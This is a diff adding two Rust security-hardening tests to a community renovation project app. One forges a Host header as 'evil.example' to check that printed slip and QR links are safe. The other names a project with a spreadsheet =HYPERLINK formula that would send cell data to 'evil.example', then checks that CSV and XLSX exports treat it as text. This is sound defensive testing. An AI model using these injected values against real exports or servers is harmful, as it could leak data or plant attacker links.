@@ -1039,3 +1039,82 @@ async fn a_reprint_of_a_buildings_forms_reissues_its_codes() {
     let list = fx.get(&fx.staff.token, &format!("/api/projects/{}/codes", fx.project)).await;
     assert!(list.1.as_array().unwrap().iter().all(|r| r["status"] == "active"), "{}", list.1);
 }
+
+#[tokio::test]
+async fn slip_links_come_from_the_configured_url_never_the_host_header() {
+    // Hardening: a forged Host must not put another site on printed slips and QR codes.
+    let fx = fixture_rules((-1, 5, 2, false), |_| {}).await;
+    let h1 = fx.households[0];
+    let got = status_json(
+        fx.s.http
+            .post(fx.s.url(&format!("/api/projects/{}/codes", fx.project)))
+            .bearer_auth(&fx.staff.token)
+            .header("Host", "evil.example")
+            .header("X-Forwarded-Proto", "https")
+            .json(&json!({ "households": [h1] }))
+            .send()
+            .await
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(got.0, 200, "{}", got.1);
+    let url = got.1["codes"][0]["url"].as_str().unwrap().to_string();
+    assert!(url.starts_with(&format!("{}/v/", fx.s.url)), "{url}");
+    assert!(!got.1.to_string().contains("evil.example"));
+
+    // With LINLI_PUBLIC_URL set, the links use it.
+    let s = start_with(|c| c.public_url = Some("https://linli.example.org".into())).await;
+    let staff = s.client("alice").await;
+    let mut d = Device::new("alice", COMMUNITY);
+    let (c, c_op) = d.compound("幸福里");
+    let (b, b_op) = d.building(c, "1号楼");
+    let (u, u_op) = d.unit(b, "1单元");
+    let (h, h_op) = d.household(u, "101", 60.0);
+    let (p, p_op) = d.project(c, "综合整治", -1, 5, 0, false);
+    push_ok(&staff, &d, vec![c_op, b_op, u_op, h_op, p_op]).await;
+    let got = status_json(
+        s.http
+            .post(s.url(&format!("/api/projects/{p}/codes")))
+            .bearer_auth(&staff.token)
+            .header("Host", "evil.example")
+            .json(&json!({ "households": [h] }))
+            .send()
+            .await
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(got.0, 200, "{}", got.1);
+    assert!(got.1["codes"][0]["url"].as_str().unwrap().starts_with("https://linli.example.org/v/"), "{}", got.1);
+}
+
+#[tokio::test]
+async fn a_formula_in_a_name_is_text_in_the_csv_and_the_xlsx() {
+    // Hardening: CSV injection. A project named like a spreadsheet formula.
+    let mut fx = fixture().await;
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
+    let (p, p_op) = fx.d.project(fx.compound, evil, -1, 5, 0, false);
+    push_ok(&fx.staff, &fx.d, vec![p_op]).await;
+    let resp = fx.s.http
+        .get(fx.s.url(&format!("/api/projects/{p}/results.csv")))
+        .bearer_auth(&fx.staff.token)
+        .send()
+        .await
+        .unwrap();
+    let csv = String::from_utf8(resp.bytes().await.unwrap().to_vec()).unwrap();
+    assert!(csv.contains("项目 (Project),\"'=HYPERLINK("), "{csv}");
+    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"), "{csv}");
+    // XLSX: the name is a string cell (in the shared strings), never a formula (`<f>`).
+    let resp = fx.s.http
+        .get(fx.s.url(&format!("/api/projects/{p}/results.xlsx")))
+        .bearer_auth(&fx.staff.token)
+        .send()
+        .await
+        .unwrap();
+    let bytes = resp.bytes().await.unwrap();
+    assert!(xlsx_text(&bytes).contains("=HYPERLINK("));
+    use std::io::Read;
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
+    let mut sheet = String::new();
+    zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
+    assert!(!sheet.contains("<f>"), "{sheet}");
+}
